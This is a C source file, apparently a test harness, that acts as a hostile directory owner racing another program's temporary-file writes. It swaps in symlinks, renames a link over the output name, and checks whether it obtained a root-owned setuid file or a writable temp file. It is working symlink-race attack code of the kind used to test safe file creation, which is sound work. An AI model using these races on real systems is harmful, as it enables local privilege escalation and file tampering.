/*
 * What the owner of a directory can do while somebody else writes a file in it: `attacker SCENE DIR NAME TARGET`. It
 * looks for temporary files without a pause, and on SIGTERM says how many it saw and how often it won.
 *
 *     temporary   puts a link to TARGET in the place of the temporary file
 *     input       puts a link to TARGET in the place of NAME some moments after a temporary file is there, and wins
 *                 where that becomes a setuid program of root's
 *     grab        wins where it can open the temporary file for writing
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static volatile sig_atomic_t over;
static void end(int signal) { (void)signal; over = 1; }

static char seen[64][64];
static int count, won;

/* Whether a name was not seen before. */
static int is_new(const char *name)
{
    for (int i = 0; i < count; i++)
        if (strcmp(seen[i], name) == 0) return 0;
    if (count < 64) snprintf(seen[count++], 64, "%s", name);
    return 1;
}

static int is_setuid_root(const char *path)
{
    struct stat s;
    return lstat(path, &s) == 0 && S_ISREG(s.st_mode) && s.st_uid == 0 && (s.st_mode & S_ISUID);
}

static int can_write(const char *path)
{
    int fd = open(path, O_RDWR | O_NOFOLLOW);
    if (fd >= 0) close(fd);
    return fd >= 0;
}

int main(int argc, char **argv)
{
    if (argc != 5 || chdir(argv[2]) != 0) return 1;
    const char *scene = argv[1], *name = argv[3], *target = argv[4];
    signal(SIGTERM, end);
    srand(getpid());
    DIR *dir = opendir(".");
    puts("ready");
    fflush(stdout);
    while (!over) {
        rewinddir(dir);
        for (struct dirent *e; (e = readdir(dir)) != NULL;) {
            if (strncmp(e->d_name, ".usdt-nop5-", 11) != 0) continue;
            char within[512];
            snprintf(within, sizeof within, "%s/new", e->d_name);
            if (strcmp(scene, "temporary") == 0) {
                if (!is_new(e->d_name)) continue;
                /* Where it is a folder, what is in it as well. */
                if (unlink(within) == 0) (void)!symlink(target, within);
                if (unlink(e->d_name) != 0) (void)!rename(e->d_name, "away");
                (void)!symlink(target, e->d_name);
            } else if (strcmp(scene, "input") == 0) {
                if (is_new(e->d_name)) {
                    (void)!symlink(target, "link");
                    usleep(rand() % 6000);
                    (void)!rename("link", name);
                }
                if (is_setuid_root(e->d_name) || is_setuid_root(within)) won++, over = 1;
            } else {
                is_new(e->d_name);
                if (can_write(e->d_name) || can_write(within)) won++, over = 1;
            }
        }
    }
    printf("%d %d\n", count, won > 0);
    return 0;
}
